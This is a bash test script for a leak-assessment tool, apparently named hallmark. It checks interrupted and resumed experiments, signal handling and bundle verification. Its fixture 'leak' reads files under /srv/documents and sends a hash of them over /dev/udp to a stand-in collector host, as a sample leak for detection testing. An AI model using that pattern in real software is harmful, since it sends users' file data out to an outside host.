#!/bin/bash
# Experiments that do not run through: a signal keeps what was done, in a bundle that verifies and upholds nothing; --resume does the
# rest, of the same experiment and no other. A pair that cannot be set up is tried again and then dropped, and costs no verdict
# where it is one; a run whose recorder dies is dropped, and nothing is upheld.
#   interrupted.sh BUILD
set -u
hallmark=$(realpath "$1/hallmark") verify=$(realpath "$1/hallmark-verify")
[ "$(id -u)" = 0 ] || { echo "1..0 # SKIP needs root"; exit 0; }
work=$(mktemp -d /var/tmp/hallmark-interrupted-XXXXXX)
top=$(dirname "$(realpath "$0")")/../..
export HALLMARK_WORK=$work/w
cgroup2=$(awk '$3 == "cgroup2" { print $2; exit }' /proc/mounts)
mine= # a control group that is in the way, while it is
cleanup() {
	[ -z "$mine" ] || rmdir "$mine" 2>/dev/null
	rm -rf "$work"
}
trap cleanup EXIT
n=0 failed=0
result() { # CONDITION-EXIT TEXT
	n=$((n + 1))
	if [ "$1" = 0 ]; then echo "ok $n - $2"; else echo "not ok $n - $2"; failed=1; fi
}
ask() { # BUNDLE EXPRESSION: of its findings `f`, its assessment `a` and the number of runs that were planned, must be true
	/usr/bin/python3 -c "
import json, sys, zipfile
z = zipfile.ZipFile(sys.argv[1])
f, a, p = (json.loads(z.read(name)) for name in ('findings.json', 'assessment.json', 'plan.json'))
kept = [d for d in a['dropped'] if d['rule'] in ('nothing kept', 'no tls')]  # the program leaves nothing on disk, and knows no TLS
a['dropped'] = [d for d in a['dropped'] if d not in kept]
planned = len(p['runs']) - len(kept)
content = next(c for c in f['claims'] if c['id'] == 'collect.content')
others = [c for c in f['claims'] if c['id'] != 'collect.encrypted']  # what was sent in the clear was, whatever came of the rest
sys.exit(0 if $2 else 1)" "$work/$1.hallmark"
}
verified() { "$verify" "$work/$1.hallmark" --key "$work/key.pem.pub" >"$work/said"; ! grep -q FALSE "$work/said" && grep -q 'holds *findings' "$work/said"; }
"$hallmark" keygen "$work/key.pem" >/dev/null || exit 1
"$hallmark" keygen "$work/other.pem" >/dev/null || exit 1
leak='value=$(rev /srv/documents/note* | md5sum | cut -c 1-16); printf "Op: report\nValue: %s\n" "$value" >/dev/udp/collector.example/9000; sleep 0.1'
still='cat /srv/documents/* >/dev/null; sleep 0.1'
begin() { # NAME COMMAND OPTION...: in the background, $pid
	local name=$1 command=$2
	shift 2
	timeout 600 "$hallmark" assess --key "$work/key.pem" --pairs 8 --factors "${factors:-content}" -q -o "$work/$name.hallmark" "$@" -- bash -c "$command" >"$work/$name.out" 2>"$work/$name.err" &
	timeout=$!
	until pid=$(cat /proc/$timeout/task/$timeout/children) && [ -n "$pid" ]; do sleep 0.01; done
	pid=${pid% }
}
reach() { # RUN: its record is begun
	until compgen -G "$HALLMARK_WORK/assess-$pid/$(printf %04d "$1").record*" >/dev/null; do
		kill -0 $pid 2>/dev/null || return 1
		sleep 0.02
	done
}
finish() { wait $timeout; code=$?; }

# A signal in the screening: nothing was held yet.
begin early "$leak"
reach 7 && kill -INT $pid
finish
result "$([ $code = 130 ] && [ "$(wc -l <"$work/early.err")" = 1 ] && grep -q 'interrupted in pair [0-9]* of .*--resume' "$work/early.err"; echo $?)" "a signal in the screening: exit 130, and one line tells how to go on"
sed 's/^/# /' "$work/early.err" | head -n 5
verified early
result $? "... its bundle verifies"
ask early "all((c['verdict'], c['reason']) == ('not verifiable', 'run.missing') for c in others)"
result $? "... and no claim is upheld"
ask early "len(a['runs']) + len(a['dropped']) == planned and not a['held'] and {d['rule'] for d in a['dropped']} == {'interrupted'} and not f['influence']"
result $? "... every run is done or dropped"
result "$([ -z "$(find "$work/w" -mindepth 1 -maxdepth 1 ! -name 'lock*')" ]; echo $?)" "... nothing is left"

# The first block that confirms: what stands before it follows from the number of pairs.
first=$(/usr/bin/python3 -c "
import json, sys, zipfile
blocks = json.loads(zipfile.ZipFile(sys.argv[1]).read('plan.json'))['blocks']
print(next(b['block'] for b in blocks if b['phase'] == 'confirm'))" "$work/early.hallmark")
amid=$((first + 3)) # a block amid the confirmation; its first run
run=$((2 * amid - 1))

# In the confirmation, of what was taken up: it is interrupted a second time.
begin later "$leak" --resume "$work/early.hallmark"
reach $run && kill -TERM $pid
finish
result "$([ $code = 130 ]; echo $?)" "... resumed, and interrupted again in the confirmation"
verified later && grep -q 'unchecked *resumed *1 ' "$work/said"
result $? "... its bundle verifies, and verify says that the seed was known"
ask later "len(a['held']) == 1 and f['experiment']['resumed'] == 1 and content['reason'] == 'run.missing' and not f['influence']"
result $? "... half of a confirmation confirms nothing"
begin whole "$leak" --resume "$work/later.hallmark"
finish
result "$([ $code = 1 ]; echo $?)" "... resumed to its end, the leak is refuted"
verified whole
result $? "... its bundle verifies"
ask whole "len(a['runs']) == planned and not a['dropped'] and f['experiment']['resumed'] == 2 and content['reason'] == 'influence.confirmed'"
result $? "... all runs are there"
/usr/bin/python3 -c "
import sys, zipfile
early, whole = (zipfile.ZipFile(path) for path in sys.argv[1:])
kept = [name for name in early.namelist() if name.startswith('runs/') or name in ('plan.json', 'product.json')]
sys.exit(0 if len(kept) > 20 and all(early.read(name) == whole.read(name) for name in kept) else 1)" "$work/early.hallmark" "$work/whole.hallmark"
result $? "... those that were done first are as they were, to the byte"

refused() { # CODE TEXT PATTERN NAME COMMAND OPTION...
	local want=$1 text=$2 pattern=$3
	shift 3
	begin "$@"
	finish
	result "$([ $code = "$want" ] && grep -q "$pattern" "$work/$1.err" && [ ! -e "$work/$1.hallmark" ]; echo $?)" "$text"
	[ $code = "$want" ] || sed 's/^/# /' "$work/$1.err" | head -n 5
}
refused 3 "a bundle that lacks nothing is not resumed" 'nothing is missing' no1 "$leak" --resume "$work/whole.hallmark"
refused 3 "... nor is one of another command" 'differs in argv' no2 "$still" --resume "$work/early.hallmark"
factors=content,names refused 3 "... nor with other factors" 'differs in' no3 "$leak" --resume "$work/early.hallmark"
refused 4 "... nor one that is not there" 'No such file' no4 "$leak" --resume "$work/none.hallmark"
/usr/bin/python3 - "$work/early.hallmark" "$work/bent.hallmark" <<'P'
import sys
data = bytearray(open(sys.argv[1], "rb").read())
data[data.index(b'"outcome":"exited"') + 12] ^= 1
open(sys.argv[2], "wb").write(data)
P
refused 4 "... nor one that was altered" 'resuming' no5 "$leak" --resume "$work/bent.hallmark"
"$hallmark" assess --key "$work/other.pem" --pairs 8 --factors content -q --resume "$work/early.hallmark" -o "$work/no6.hallmark" -- bash -c "$leak" >/dev/null 2>"$work/no6.err"
result "$([ $? = 4 ] && [ ! -e "$work/no6.hallmark" ]; echo $?)" "... nor under another key"
"$hallmark" assess --key "$work/key.pem" -q --resume "$work/early.hallmark" -o "$work/no7.hallmark" -- bash -c "$leak" >/dev/null 2>"$work/no7.err"
result "$([ $? = 3 ] && [ "$(wc -l <"$work/no7.err")" = 1 ]; echo $?)" "... nor without --pairs"

# What an assessor could say of runs that are missing, and may not.
altered() { # NAME STATEMENTS: evaluates the bundle with its assessment so changed
	/usr/bin/python3 "$top/tests/support/alter.py" "$work/$1.hallmark" "$work/altered.hallmark" "$2" && "$hallmark" evaluate "$work/altered.hallmark" >"$work/altered.json" 2>"$work/altered.err"
}
altered early pass && false
result "$([ $? != 4 ] && [ -s "$work/altered.json" ]; echo $?)" "an assessment that nothing was changed in is evaluated"
while IFS='|' read -r text said statements; do
	altered early "$statements"
	result "$([ $? = 1 ] && grep -q "$said" "$work/altered.err"; echo $?)" "... $text is refused"
done <<'T'
a rule that does not exist|rule that does not exist|a['dropped'][0]['rule'] = 'because'
half a block that never began|one run is there|a['dropped'][0]['rule'] = 'not set up'
a block behind the interruption|stands behind one that was interrupted|a['dropped'][-2:] = [{'run': d['run'], 'rule': 'not set up'} for d in a['dropped'][-2:]]
what was held before screening was done|screening was not done|a['held'] = [{'factor': 'content', 'block': 5}]
a resumption at no block|no block, or out of order|a['resumed'] = [{'block': 999, 'at_us': 1}]
attempts out of order|no block, or out of order|a['repeated'] = [{'block': 3, 'why': 'x'}, {'block': 2, 'why': 'x'}]
a run that was done and dropped|was not planned, or was done|a['dropped'] = [{'run': 1, 'rule': 'interrupted'}] + a['dropped']
T
listening() { # EXPRESSION: of the altered findings' row for capable.listening
	/usr/bin/python3 -c "
import json, sys
f = json.load(open(sys.argv[1]))
c = next(c for c in f['claims'] if c['id'] == 'capable.listening')
sys.exit(0 if $1 else 1)" "$work/altered.json"
}
altered whole "not_set_up($amid)"
listening "c['verdict'] == 'upheld' and f['experiment']['not_set_up'] == 1"
result $? "one pair that never began is excused"
altered whole "not_set_up($amid); not_set_up($amid + 1)"
listening "(c['verdict'], c['reason'], c['values']) == ('not verifiable', 'run.missing', {'runs': 4})"
result $? "... not two, where six are left"

# A second signal does not wait: a twin that stands still would keep it.
begin twice "$leak"
reach 3
twins=$(cat /proc/$pid/task/$pid/children)
# shellcheck disable=SC2086
kill -STOP $twins
kill -INT $pid
sleep 1.5
kill -INT $pid
for i in $(seq 1 40); do kill -0 $pid 2>/dev/null || break; sleep 0.05; done
result "$(kill -0 $pid 2>/dev/null; [ $? != 0 ]; echo $?)" "a second signal stops at once"
# shellcheck disable=SC2086
kill -CONT $twins 2>/dev/null
finish
result "$([ $code = 130 ] && [ ! -e "$work/twice.hallmark" ]; echo $?)" "... with exit 130 and without a bundle"

# A control group in the way of a run in the confirmation: that pair cannot be set up.
begin blocked "$still"
reach 1
mine=$cgroup2/hallmark/$pid-$run
mkdir "$mine"
exec 9<"$mine" # locked, or whoever starts next takes it for one that was left behind
flock 9
finish
exec 9<&-
rmdir "$mine"
mine=
ask blocked "[(d['run'], d['rule']) for d in a['dropped']] == [($run, 'not set up'), ($run + 1, 'not set up')] and [r['block'] for r in a['repeated']] == [$amid, $amid]"
result $? "a pair that cannot be set up is tried three times, then dropped"
sed 's/^/# /' "$work/blocked.err" | head -n 5
ask blocked "f['experiment']['not_set_up'] == 1 and f['experiment']['repeated'] == 2 and f['experiment']['runs'] == planned - 2"
result $? "... and told"
result "$([ $code = 0 ]; echo $?)" "... it costs no verdict: exit $code"
ask blocked "content['verdict'] == 'upheld'"
result $? "... seven pairs are left"
verified blocked
result $? "... its bundle verifies"

# The process that records one of two runs is killed.
begin killed "$still; sleep 0.5"
reach 13
until grep -qs 'populated 1' "$cgroup2/hallmark/$pid-13/product/cgroup.events" || ! kill -0 $pid; do sleep 0.01; done
set -- $(cat /proc/$pid/task/$pid/children)
kill -KILL "$1"
finish
ask killed "len(a['dropped']) == 1 and a['dropped'][0]['rule'] == 'not recorded' and f['experiment']['runs'] == planned - 1 and not a['repeated']"
result $? "a run whose recorder dies is dropped, its twin is kept, and nothing is repeated"
sed 's/^/# /' "$work/killed.err" | head -n 5
ask killed "all((c['verdict'], c['reason']) == ('not verifiable', 'run.missing') for c in others)"
result $? "... and no claim is upheld: exit $code"
verified killed
result $? "... its bundle verifies"
result "$([ -z "$(find "$cgroup2/hallmark" -mindepth 1 -maxdepth 1 -name "$pid-*" 2>/dev/null)" ]; echo $?)" "... nothing is left"
echo "1..$n"
exit $failed
